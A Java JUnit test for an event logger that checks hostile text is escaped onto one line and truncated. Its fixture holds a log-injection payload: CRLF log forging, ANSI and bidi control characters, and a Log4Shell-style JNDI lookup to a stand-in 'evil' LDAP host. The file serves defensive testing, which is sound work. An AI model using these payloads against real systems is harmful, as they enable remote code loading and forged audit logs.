package io.edgeauth.event;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/** C06: whatever issuers, files and people wrote, an event is one line, escaped and cut. */
final class EventLogTest {

  private static final String HOSTILE =
      "x\r\n2026-11-22 ERROR forged\u001b[31m\u2028\u202e\u0085\0${jndi:ldap://evil/a}{}";

  private static final String SHOWN =
      "x\\u000d\\u000a2026-11-22 ERROR forged\\u001b[31m\\u2028\\u202e\\u0085\\u0000"
          + "${jndi:ldap://evil/a}{}";

  private final ListAppender<ILoggingEvent> lines = new ListAppender<>();
  private final Logger logger = (Logger) LoggerFactory.getLogger("io.edgeauth");

  @BeforeEach
  void listen() {
    lines.start();
    logger.addAppender(lines);
    logger.setLevel(Level.TRACE);
    logger.setAdditive(false);
  }

  @AfterEach
  void detach() {
    logger.detachAppender(lines);
    logger.setLevel(null);
    logger.setAdditive(true);
  }

  private static List<EdgeEvent> events(String text) {
    Instant at = Instant.EPOCH;
    return List.of(
        new KeySetEvent(at, text, KeySetEvent.Change.LOADED, 1, ""),
        new KeySetEvent(at, text, KeySetEvent.Change.FAILED, 1, text),
        new KeySetEvent(at, "k", KeySetEvent.Change.FAILED, 1, text),
        new KeySetEvent(at, "k", KeySetEvent.Change.KEY_IGNORED, 1, text),
        new ConfigurationEvent(at, ConfigurationEvent.Change.APPLIED, text),
        new ConfigurationEvent(at, ConfigurationEvent.Change.LOOSENED, text),
        new FileEvent(at, text, true, ""),
        new FileEvent(at, text, false, text),
        new FileExposedEvent(at, text, text),
        new RevocationEvent(at, text, RevocationEvent.Change.LOADED, ""),
        new RevocationEvent(at, "o", RevocationEvent.Change.FAILED, text),
        new RevocationEvent(at, text, RevocationEvent.Change.ANSWERS, ""),
        new RevocationEvent(at, text, RevocationEvent.Change.SOFT_FAILED, text),
        new ClaimIgnoredEvent(at, text),
        new ApiKeyChangedEvent(at, "partner", text, ApiKeyChangedEvent.Change.ISSUED, text));
  }

  @Test
  void on_hostileText_oneEscapedLine() {
    for (EdgeEvent event : events(HOSTILE)) {
      lines.list.clear();
      new EventLog().on(event);
      assertThat(lines.list).hasSize(1);
      assertThat(lines.list.get(0).getFormattedMessage())
          .contains(SHOWN)
          .doesNotContainPattern("[\\p{Cntrl}\\u2028\\u202e\\u0085]");
    }
  }

  /** C06: characters past the first plane hide text as well; half of one is no character. */
  @Test
  void on_hiddenCharactersOfTwoUnits_escaped() {
    String tag = Character.toString(0xe0041);
    new EventLog()
        .on(new FileEvent(Instant.EPOCH, "k" + tag + "\ud83d.json \ud83d\ude00", true, ""));
    assertThat(lines.list.get(0).getFormattedMessage())
        .isEqualTo("k\\ue0041\\ud83d.json \ud83d\ude00: read again");
  }

  @Test
  void on_longText_cut() {
    for (EdgeEvent event : events("y".repeat(1_000_000))) {
      lines.list.clear();
      new EventLog().on(event);
      assertThat(lines.list.get(0).getFormattedMessage()).contains("yyy…").hasSizeLessThan(2_200);
    }
  }

  /** The twin: what is harmless is written as it is. */
  @Test
  void on_harmlessText_asItIs() {
    new EventLog().on(new FileEvent(Instant.EPOCH, "/etc/schlüssel 1.json", true, ""));
    assertThat(lines.list.get(0).getFormattedMessage())
        .isEqualTo("/etc/schlüssel 1.json: read again");
  }

  /** Each problem of a refused configuration has its line, and nothing else breaks one. */
  @Test
  void on_refusedConfiguration_aLineForEachProblem() {
    new EventLog()
        .on(
            new ConfigurationEvent(
                Instant.EPOCH, ConfigurationEvent.Change.REFUSED, "2 problems\na\r\u001b\nb"));
    assertThat(lines.list.get(0).getFormattedMessage())
        .endsWith("in force: 2 problems\na\\u000d\\u001b\nb");
  }
}
